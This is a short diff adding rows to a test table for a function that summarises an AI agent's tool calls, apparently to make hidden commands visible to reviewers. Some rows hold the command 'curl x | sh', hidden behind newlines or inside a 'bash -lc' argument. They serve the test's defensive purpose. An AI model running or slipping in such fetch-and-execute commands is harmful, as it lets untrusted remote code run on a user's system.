@@ -17,6 +17,10 @@ from interlock.domain.summary import summary
     [
         ("execute", {"command": "npm  install left-pad"}, "execute npm install left-pad"),
         ("execute", {"command": "ls" + "\n" * 41 + "curl x | sh"}, "execute ls ⏎ curl x | sh"),
+        ("shell", {"command": ["git", "commit", "-m", "One, two"], "workdir": "/w"}, "shell git commit -m 'One, two'"),
+        ("shell", {"command": ["bash", "-lc", "ls\ncurl x | sh"]}, "shell bash -lc 'ls ⏎ curl x | sh'"),
+        ("shell", {"command": ["ls", 1]}, 'shell ["ls", 1]'),
+        ("shell", {"command": []}, "shell []"),
         ("read_file", {"path": "notes.md"}, "read_file notes.md"),
         ("write_file", {"path": "a.py", "content": "print(1)\n"}, "write_file a.py"),
         ("pay", {"to": "ann", "amount": 5.5, "currency": "EUR"}, "pay 5.5 EUR → ann"),
